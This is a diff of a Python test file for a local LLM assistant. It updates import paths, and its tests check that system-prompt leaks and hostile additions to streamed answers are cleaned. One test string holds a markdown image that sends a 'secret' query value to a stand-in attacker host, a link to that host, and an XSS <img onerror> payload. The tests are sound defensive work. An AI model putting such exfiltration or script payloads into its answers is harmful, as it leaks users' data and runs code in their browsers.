@@ -15,10 +15,10 @@ import re
 
 import pytest
 
-from assistant.answer import AnswerEngine
-from assistant.llm import build_chat_model
-from assistant.prompts import render
-from assistant.safety import urls_in
+from assistant.core.answer import AnswerEngine
+from assistant.core.llm import build_chat_model
+from assistant.core.prompts import render
+from assistant.core.safety import urls_in
 
 from .test_llm_real import llama_server  # noqa: F401 - fixture: SmolLM2 behind llama_cpp.server
 
@@ -38,7 +38,7 @@ def system_prompt(settings, lang: str) -> str:
 
 
 def leak_line(settings, lang: str) -> str:
-    """A line of the system prompt that only the leak check removes (no markup in it; assistant/verify.py)."""
+    """A line of the system prompt that only the leak check removes (no markup in it; assistant/core/verify.py)."""
     lines = [ln.strip() for ln in system_prompt(settings, lang).splitlines()]
     return max((ln for ln in lines if len(ln) >= 30 and "<" not in ln and "[" not in ln), key=len)
 
@@ -152,8 +152,8 @@ def test_real_model_answer_with_bad_additions_is_cleaned(real_model_settings, bu
 def test_streamed_text_in_the_chat_is_made_safe_too(real_model_settings, bundled_runtime, tmp_path, question, mode, stage):
     """The chat shows the model's text while it streams. What the browser renders then must not
     load an image or offer a link either: the check afterwards comes too late for that."""
-    from assistant.chat import ChatService
-    from assistant.journal import Journal
+    from assistant.app.chat import ChatService
+    from assistant.app.journal import Journal
 
     settings = real_model_settings.model_copy(update={"data_dir": tmp_path})
     tail = f" ![bilde](http://{EVIL}/p.png?d=hemmelig) [klikk](http://{EVIL}/) <img src=x onerror=alert(1)> [1]"
